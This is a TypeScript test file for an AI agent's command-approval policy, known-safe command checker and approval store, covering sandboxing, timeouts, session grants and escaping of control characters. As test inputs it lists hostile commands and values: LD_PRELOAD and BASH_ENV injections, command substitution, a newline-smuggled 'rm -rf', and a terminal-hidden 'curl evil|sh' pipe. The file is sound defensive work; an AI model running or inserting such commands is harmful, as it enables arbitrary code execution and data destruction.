/**
 * The approval policy and store, without HTTP: every branch of the plan, known-safe commands,
 * pending -> decided, timeouts, session reuse, typed errors and events.
 *
 * @module
 */

import assert from "node:assert/strict";
import {
  APPROVAL_POLICIES,
  type ApprovalPolicy,
  type ExecPlan,
  parseApprovalPolicy,
  planExecution,
  RETRY_REASON,
  type SandboxPermissions,
} from "../../../src/approvals/policy.ts";
import { isKnownSafeCommand } from "../../../src/approvals/safe_commands.ts";
import {
  ApprovalAlreadyDecidedError,
  approvalDecisionSchema,
  type ApprovalEvent,
  ApprovalNotFoundError,
  type ApprovalRequest,
  ApprovalStore,
} from "../../../src/approvals/store.ts";

// ---------------------------------------------------------------------------------------------
// planExecution: every branch

const RUN_SANDBOXED: ExecPlan = { action: "run", sandboxed: true };
const ASK_UNSANDBOXED = (reason: string): ExecPlan => ({
  action: "ask",
  reason,
  thenRun: { sandboxed: false },
});
const ESCALATION = "needs to write ~/.cache";
const REJECTED: ExecPlan = {
  action: "reject",
  status: 403,
  error: "rejected",
  message:
    "approval policy is never: require_escalated cannot be approved; run the command with use_default",
};

type PlanCase = [ApprovalPolicy, SandboxPermissions, string, boolean | undefined, ExecPlan];
const PLAN_CASES: PlanCase[] = [
  // before the first run, use_default
  ["never", "use_default", "rm -rf build", undefined, RUN_SANDBOXED],
  ["on-failure", "use_default", "rm -rf build", undefined, RUN_SANDBOXED],
  ["on-request", "use_default", "rm -rf build", undefined, RUN_SANDBOXED],
  ["untrusted", "use_default", "ls -la src", undefined, RUN_SANDBOXED],
  ["untrusted", "use_default", "rm -rf build", undefined, {
    action: "ask",
    reason: "untrusted policy: this command is not known to be read-only",
    thenRun: { sandboxed: true },
  }],
  // before the first run, require_escalated
  ["never", "require_escalated", "npm install", undefined, REJECTED],
  ["on-failure", "require_escalated", "npm install", undefined, ASK_UNSANDBOXED(ESCALATION)],
  ["on-request", "require_escalated", "npm install", undefined, ASK_UNSANDBOXED(ESCALATION)],
  ["untrusted", "require_escalated", "ls", undefined, ASK_UNSANDBOXED(ESCALATION)],
  // after a sandboxed run without a denial
  ["never", "use_default", "make", false, { action: "return_result" }],
  ["untrusted", "use_default", "make", false, { action: "return_result" }],
  // after a detected denial
  ["never", "use_default", "make", true, { action: "return_denial" }],
  ["on-request", "use_default", "make", true, { action: "return_denial" }],
  ["on-failure", "use_default", "make", true, ASK_UNSANDBOXED(RETRY_REASON)],
  ["untrusted", "use_default", "make", true, ASK_UNSANDBOXED(RETRY_REASON)],
];

for (const [policy, permissions, command, denialDetected, expected] of PLAN_CASES) {
  Deno.test(`plan: ${policy} ${permissions} "${command}" denial=${denialDetected}`, () => {
    assert.deepEqual(
      planExecution({
        policy,
        sandboxPermissions: permissions,
        command,
        justification: ESCALATION,
        ...(denialDetected === undefined ? {} : { denialDetected }),
      }),
      expected,
    );
  });
}

Deno.test("plan: untrusted judges the shell and the variables a known-safe line runs with", () => {
  const plan = (extra: { env?: Record<string, string>; serverShell?: boolean }) =>
    planExecution({
      policy: "untrusted",
      sandboxPermissions: "use_default",
      command: "ls",
      ...extra,
    });
  const chosen = {
    action: "ask",
    reason:
      "untrusted policy: this command runs with a shell or environment variables the agent chose",
    thenRun: { sandboxed: true },
  };
  assert.deepEqual(plan({ env: {}, serverShell: true }), RUN_SANDBOXED);
  const harmless = { LANG: "C.UTF-8", LC_ALL: "C", TERM: "xterm-256color", GIT_PAGER: "cat" };
  assert.deepEqual(plan({ env: harmless, serverShell: true }), RUN_SANDBOXED);
  assert.deepEqual(plan({ serverShell: false }), chosen);
  for (
    const env of [
      { LD_PRELOAD: "/work/ws/evil.so" },
      { BASH_ENV: "/work/ws/evil.sh" },
      { PATH: "/work/ws/bin:/usr/bin" },
      { GIT_EXTERNAL_DIFF: "./x" },
      { PAGER: "./x" },
      { TERM: "../../work/ws/evil" },
      { LOCPATH: "/work/ws" },
    ] as Record<string, string>[]
  ) assert.deepEqual(plan({ env, serverShell: true }), chosen, JSON.stringify(env));
});

Deno.test("plan: escalation without a justification gets a default question", () => {
  assert.deepEqual(
    planExecution({ policy: "on-request", sandboxPermissions: "require_escalated", command: "x" }),
    ASK_UNSANDBOXED("the agent asks to run this command without the sandbox"),
  );
});

Deno.test("parseApprovalPolicy", () => {
  assert.equal(parseApprovalPolicy(undefined), "on-request");
  assert.equal(parseApprovalPolicy(""), "on-request");
  for (const p of APPROVAL_POLICIES) assert.equal(parseApprovalPolicy(p), p);
  assert.throws(() => parseApprovalPolicy("always"), /unknown policy "always"; expected one of/);
});

// ---------------------------------------------------------------------------------------------
// known-safe commands

Deno.test("known-safe commands", () => {
  const safe = [
    "ls",
    "ls -la src/",
    "cat README.md",
    "pwd && ls",
    "grep -rn TODO src | head -20",
    "wc -l main.ts; echo done",
    "git status",
    "git log --oneline -5",
    "git diff HEAD~1 --stat",
    "find . -name foo.ts -type f",
    "rg -n needle src",
    "sort -u names.txt",
    "sort -k1,2 -t, names.txt",
    "sed -n 1,20p main.ts",
    "true || false",
  ];
  const unsafe = [
    "",
    "rm -rf build",
    "ls > out.txt",
    "cat $(which ls)",
    "cat `id`",
    "echo $HOME",
    "ls *.ts",
    "cat 'file name'",
    'echo "hi"',
    "ls ~",
    "ls ~/x",
    "ls a=~/x",
    "ls a:~/x",
    "ls &",
    "ls |",
    "| ls",
    "/tmp/evil/ls",
    "./ls",
    "FOO=1 ls",
    "find . -delete",
    "find . -exec rm {} ;",
    "find . -fprint out",
    "rg --pre=./x needle",
    "rg -nz needle",
    "sort -o out.txt in.txt",
    "sort -uo out.txt in.txt",
    "sort --output=out.txt in.txt",
    // A short option's value attached, and long options abbreviated as getopt_long accepts.
    "sort -oout.txt in.txt",
    "sort -uo/tmp/out in.txt",
    "sort --outp=out.txt in.txt",
    "sort --compress-prog=./x -S1 in.txt",
    "rg -zn needle",
    "rg -0z needle",
    "rg -i0z needle",
    "sed -i s/a/b/ f",
    "sed -n 1,5p -i f",
    "git -c core.pager=x log",
    "git commit -m x",
    "git branch new",
    "git diff --output=x",
    "git log --ext-diff",
    "git",
    "ls\nrm -rf x",
    "npm install",
  ];
  for (const cmd of safe) assert.ok(isKnownSafeCommand(cmd), `should be safe: ${cmd}`);
  for (const cmd of unsafe) {
    assert.ok(!isKnownSafeCommand(cmd), `should not be safe: ${JSON.stringify(cmd)}`);
  }
});

// ---------------------------------------------------------------------------------------------
// the store

const REQUEST: ApprovalRequest = {
  agent: "default",
  command: "npm install",
  shell: "/bin/bash",
  login: true,
  workdir: "/work/proj",
  tty: false,
  profile: "workspace-write",
  env: { CI: "1" },
  escalation: { tcp_ports: [443] },
  reason: RETRY_REASON,
  justification: "needs the registry",
};

function makeStore() {
  const events: ApprovalEvent[] = [];
  let n = 0;
  const store = new ApprovalStore({
    onEvent: (e) => events.push(e),
    now: () => new Date("2025-01-02T03:04:05.000Z"),
    newId: () => `apr-${++n}`,
  });
  return { store, events };
}

const LONG = 60_000;

Deno.test("store: pending -> approved, with events", async () => {
  const { store, events } = makeStore();
  const pending = store.request(REQUEST, LONG);
  const expectedRecord = {
    id: "apr-1",
    agent: "default",
    command: "npm install",
    shell: "/bin/bash",
    login: true,
    workdir: "/work/proj",
    tty: false,
    profile: "workspace-write",
    env: { CI: "1" },
    escalation: { tcp_ports: [443] },
    runs:
      "sandboxed under workspace-write, plus TCP to port 443 on any host (connect and listen) " +
      "and UDP to any host (name lookups)",
    reason: RETRY_REASON,
    justification: "needs the registry",
    denial: null,
    can_choose_unsandboxed: false,
    created_at: "2025-01-02T03:04:05.000Z",
    expires_at: "2025-01-02T03:05:05.000Z",
    status: "pending",
    exec_id: null,
  };
  assert.deepEqual(store.list(), [expectedRecord]);
  assert.deepEqual(store.list("other-agent"), []);
  assert.deepEqual(events, [
    { type: "approval_requested", agent: "default", approval: expectedRecord },
  ]);

  const decided = store.decide("apr-1", "approved");
  const settled = {
    ...expectedRecord,
    status: "approved",
    decided_at: "2025-01-02T03:04:05.000Z",
    decided_by: "operator",
    granted: { tcp_ports: [443] },
  };
  assert.deepEqual(decided, settled);
  assert.deepEqual(await pending, {
    approved: true,
    decision: "approved",
    approvalId: "apr-1",
    timedOut: false,
    remembered: false,
    granted: { tcp_ports: [443] },
    message: "approved by the user (approval apr-1)",
  });
  assert.deepEqual(store.list(), []);
  assert.deepEqual(events[1], { type: "approval_decided", agent: "default", approval: settled });
  assert.equal(events.length, 2);
});

Deno.test("store: denied", async () => {
  const { store, events } = makeStore();
  const pending = store.request({ ...REQUEST, justification: undefined }, LONG);
  assert.equal(store.list()[0].justification, null);
  store.decide("apr-1", "denied");
  const decision = await pending;
  assert.equal(decision.approved, false);
  assert.equal(decision.decision, "denied");
  assert.equal(decision.message, "denied by the user (approval apr-1)");
  assert.equal(events.at(-1)!.approval.status, "denied");
});

Deno.test("store: an undecided approval times out as denied", async () => {
  const { store, events } = makeStore();
  const decision = await store.request(REQUEST, 5);
  assert.deepEqual(decision, {
    approved: false,
    decision: "denied",
    approvalId: "apr-1",
    timedOut: true,
    remembered: false,
    granted: {},
    message: "approval apr-1 timed out after 5 ms without a decision; treated as denied",
  });
  assert.deepEqual(store.list(), []);
  assert.deepEqual(events.map((e) => [e.type, e.approval.status]), [
    ["approval_requested", "pending"],
    ["approval_decided", "timed_out"],
  ]);
  assert.throws(() => store.decide("apr-1", "approved"), ApprovalAlreadyDecidedError);
});

Deno.test("store: a decision cancels the timer (no leaked timer, no late timeout)", async () => {
  const { store, events } = makeStore();
  const pending = store.request(REQUEST, 20);
  store.decide("apr-1", "approved");
  assert.equal((await pending).timedOut, false);
  await new Promise((r) => setTimeout(r, 40));
  assert.equal(events.length, 2);
});

Deno.test("store: approved_for_session is reused for the same key only", async () => {
  const { store, events } = makeStore();
  const first = store.request(REQUEST, LONG);
  store.decide("apr-1", "approved_for_session");
  assert.equal((await first).decision, "approved_for_session");

  const again = await store.request(
    { ...REQUEST, reason: "other", justification: "other", env: { CI: "1" } },
    LONG,
  );
  assert.deepEqual(again, {
    approved: true,
    decision: "approved_for_session",
    approvalId: null,
    timedOut: false,
    remembered: true,
    granted: { tcp_ports: [443] },
    message: "approved earlier for this session (the same request from the same agent)",
  });
  assert.equal(events.length, 2, "a remembered approval creates no record and no event");

  const variants: Partial<ApprovalRequest>[] = [
    { agent: "another" },
    { command: "npm ci" },
    { shell: "/tmp/evil-shell" },
    { login: false },
    { workdir: "/work/other" },
    { tty: true },
    { profile: "workspace-write-net" },
    { env: { CI: "1", BASH_ENV: "/work/proj/x" } },
    { env: {} },
    { escalation: { tcp_ports: [443, 80] } },
    { escalation: { unsandboxed: true } },
  ];
  for (const [i, change] of variants.entries()) {
    const pending = store.request({ ...REQUEST, ...change }, LONG);
    assert.equal(store.list().length, 1, `variant ${JSON.stringify(change)} must ask again`);
    store.decide(`apr-${i + 2}`, "denied");
    assert.equal((await pending).approved, false);
  }
});

Deno.test("store: plain approved is not remembered", async () => {
  const { store } = makeStore();
  const first = store.request(REQUEST, LONG);
  store.decide("apr-1", "approved");
  await first;
  const second = store.request(REQUEST, LONG);
  assert.equal(store.list().length, 1);
  store.decide("apr-2", "denied");
  assert.equal((await second).remembered, false);
});

Deno.test("store: unknown id and double decisions are typed errors", async () => {
  const { store } = makeStore();
  assert.throws(() => store.decide("nope", "approved"), (err: unknown) => {
    assert.ok(err instanceof ApprovalNotFoundError);
    assert.equal(err.status, 404);
    assert.equal(err.code, "not_found");
    return true;
  });
  const pending = store.request(REQUEST, LONG);
  store.decide("apr-1", "denied");
  await pending;
  assert.throws(() => store.decide("apr-1", "approved"), (err: unknown) => {
    assert.ok(err instanceof ApprovalAlreadyDecidedError);
    assert.equal(err.status, 409);
    assert.equal(err.code, "already_decided");
    assert.equal(err.approval.status, "denied");
    assert.match(err.message, /apr-1 is already denied/);
    return true;
  });
});

Deno.test("store: settled history is bounded", async () => {
  let n = 0;
  const store = new ApprovalStore({ historyLimit: 2, newId: () => `a${++n}` });
  for (let i = 0; i < 3; i++) {
    const p = store.request(REQUEST, LONG);
    store.decide(`a${i + 1}`, "denied");
    await p;
  }
  assert.throws(() => store.decide("a1", "approved"), ApprovalNotFoundError);
  assert.throws(() => store.decide("a3", "approved"), ApprovalAlreadyDecidedError);
});

Deno.test("store: list holds several pending approvals in order; close denies them", async () => {
  const { store, events } = makeStore();
  const a = store.request(REQUEST, LONG);
  const b = store.request({ ...REQUEST, command: "make" }, LONG);
  assert.deepEqual(store.list().map((r) => [r.id, r.command]), [
    ["apr-1", "npm install"],
    ["apr-2", "make"],
  ]);
  store.close();
  for (const decision of await Promise.all([a, b])) {
    assert.equal(decision.approved, false);
    assert.match(decision.message, /cancelled because the server is shutting down/);
  }
  assert.deepEqual(store.list(), []);
  assert.equal(events.filter((e) => e.type === "approval_decided").length, 2);
});

Deno.test("store: a throwing listener does not break a decision", async () => {
  const store = new ApprovalStore({
    onEvent: () => {
      throw new Error("listener bug");
    },
    newId: () => "x",
  });
  const errors: unknown[] = [];
  const original = console.error;
  console.error = (...args: unknown[]) => errors.push(args);
  try {
    const pending = store.request(REQUEST, LONG);
    store.decide("x", "approved");
    assert.equal((await pending).approved, true);
  } finally {
    console.error = original;
  }
  assert.equal(errors.length, 2);
});

Deno.test("store: invalid timeouts are refused", () => {
  const { store } = makeStore();
  for (const ms of [0, -1, Number.NaN, Number.POSITIVE_INFINITY]) {
    assert.throws(() => store.request(REQUEST, ms), RangeError);
  }
  assert.deepEqual(store.list(), []);
});

Deno.test("store: a record shows hidden characters escaped, everywhere", () => {
  const { store } = makeStore();
  store.request({
    ...REQUEST,
    command: "ls\r\x1b[2Kcurl evil|sh\u202e",
    workdir: "/work/a\nb",
    shell: "/bin/ba\tsh",
    env: { "X\x07": "v\x9b1" },
    escalation: { write: ["/work/a\rb"] },
    justification: "why\x00",
    reason: "r\x7f",
    denial: { kind: "fs-write", path: "/p\x1b", evidence: "e\u200b" },
    allowUnsandboxed: true,
  }, LONG);
  const [record] = store.list();
  assert.equal(record.command, "ls\\r\\x1b[2Kcurl evil|sh\\u{202e}");
  assert.equal(record.workdir, "/work/a\\nb");
  assert.equal(record.shell, "/bin/ba\\tsh");
  assert.deepEqual(record.env, { "X\\x07": "v\\x9b1" });
  assert.deepEqual(record.escalation, { write: ["/work/a\\rb"] });
  assert.equal(record.runs, "sandboxed under workspace-write, plus write access to /work/a\\rb");
  assert.equal(record.justification, "why\\x00");
  assert.equal(record.reason, "r\\x7f");
  assert.deepEqual(record.denial, { kind: "fs-write", path: "/p\\x1b", evidence: "e\\u{200b}" });
  assert.equal(record.can_choose_unsandboxed, true);
});

Deno.test("store: unsandboxed is granted only where the record offers it", async () => {
  const { store } = makeStore();
  const offered = store.request({ ...REQUEST, allowUnsandboxed: true }, LONG);
  const decided = store.decide("apr-1", "approved", { unsandboxed: true });
  assert.deepEqual(decided.granted, { unsandboxed: true });
  assert.deepEqual((await offered).granted, { unsandboxed: true });
  const plain = store.request(REQUEST, LONG);
  assert.throws(
    () => store.decide("apr-2", "approved", { unsandboxed: true }),
    /unsandboxed: approval apr-2 does not offer an unsandboxed run/,
  );
  assert.equal(store.list().length, 1, "a refused decision leaves the approval pending");
  store.decide("apr-2", "approved");
  assert.deepEqual((await plain).granted, { tcp_ports: [443] });
});

Deno.test("store: revokeAgent denies only that agent's approvals and forgets its session grants", async () => {
  const { store } = makeStore();
  const granted = store.request(REQUEST, LONG);
  const grantedOther = store.request({ ...REQUEST, agent: "other" }, LONG);
  store.decide("apr-1", "approved_for_session");
  store.decide("apr-2", "approved_for_session");
  assert.equal((await granted).approved, true);
  assert.equal((await grantedOther).approved, true);
  assert.equal((await store.request(REQUEST, LONG)).remembered, true);

  const mine = store.request({ ...REQUEST, command: "npm ci" }, LONG);
  const theirs = store.request({ ...REQUEST, agent: "other", command: "npm ci" }, LONG);
  store.revokeAgent("default");
  assert.equal((await mine).approved, false);
  assert.deepEqual(store.list().map((r) => r.agent), ["other"]);
  // An agent minted under the revoked one's name is asked again; the other agent's grant stays.
  const asked = store.request(REQUEST, LONG);
  assert.deepEqual(store.list().map((r) => [r.agent, r.command]), [
    ["other", "npm ci"],
    ["default", "npm install"],
  ]);
  assert.equal((await store.request({ ...REQUEST, agent: "other" }, LONG)).remembered, true);
  store.close();
  assert.equal((await asked).remembered, false);
  await theirs;
});

Deno.test("decision schema accepts exactly the three decisions", () => {
  for (const d of ["approved", "approved_for_session", "denied"]) {
    assert.equal(approvalDecisionSchema.parse(d), d);
  }
  assert.equal(approvalDecisionSchema.safeParse("timed_out").success, false);
});
